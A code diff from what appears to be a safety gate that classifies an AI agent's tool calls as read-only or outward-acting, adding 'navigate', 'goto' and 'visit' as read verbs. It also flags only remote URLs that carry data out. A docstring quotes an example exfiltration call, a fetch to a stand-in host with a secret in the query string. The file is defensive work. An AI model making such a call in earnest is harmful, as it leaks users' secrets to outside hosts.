@@ -65,7 +65,8 @@ READ_VERBS = frozenset(
     "verify compute calculate estimate translate summarize summarise explain echo ping "
     "browse scan watch head tail diff compare analyze analyse render format parse print test "
     "whoami me current detect recognize recognise identify classify suggest recommend "
-    "predict resolve evaluate lint review extract is has can generate convert open".split()
+    "predict resolve evaluate lint review extract is has can generate convert open "
+    "navigate goto visit".split()
 )
 EXTERNAL_VERBS = frozenset(
     "send invite share publish unpublish transfer pay book order message notify email mail "
@@ -98,7 +99,7 @@ CHANGE_VERBS = frozenset(
 
 PLAIN_READS = frozenset(
     "get gets list lists read fetch search find show describe retrieve lookup view count "
-    "inspect preview exists whoami diff compare".split()
+    "inspect preview exists whoami diff compare navigate goto visit".split()
 )
 """Read verbs with no second sense (not ``open``, ``generate``, ``test``, ``query``, nor the
 nouns ``status`` and ``info``): a name that starts with one and names no change is read-only by rule."""
@@ -264,14 +265,16 @@ _WEB_URL = re.compile(r"^(?:https?|wss?|ftp)://", re.I)
 
 
 def _remote_url(arguments: Mapping[str, Any]) -> str | None:
-    """A URL to another machine among the arguments: a read there still sends what the URL
-    carries (``fetch {"url": "https://x.example/?d=<secret>"}``), so the model judges it, as
-    it does a harness's ``WebFetch``."""
+    """A URL to another machine among the arguments that carries data out
+    (``fetch {"url": "https://x.example/?d=<secret>"}``: :func:`.urls.data_in_url`): a read
+    there still sends it, so the model judges it. A URL that carries nothing is read as a
+    harness's ``WebFetch`` is (``navigate {"url": "https://docs.python.org/3/"}``)."""
     from ctxgate.gate.effects.programs import LOCAL_HOST
+    from ctxgate.gate.effects.urls import data_in_url
 
     for value in arguments.values():
         if isinstance(value, str) and _WEB_URL.match(value.strip()) and \
-                not LOCAL_HOST.match(value.strip()):
+                not LOCAL_HOST.match(value.strip()) and data_in_url(value.strip()):
             return value.strip()
     return None
 
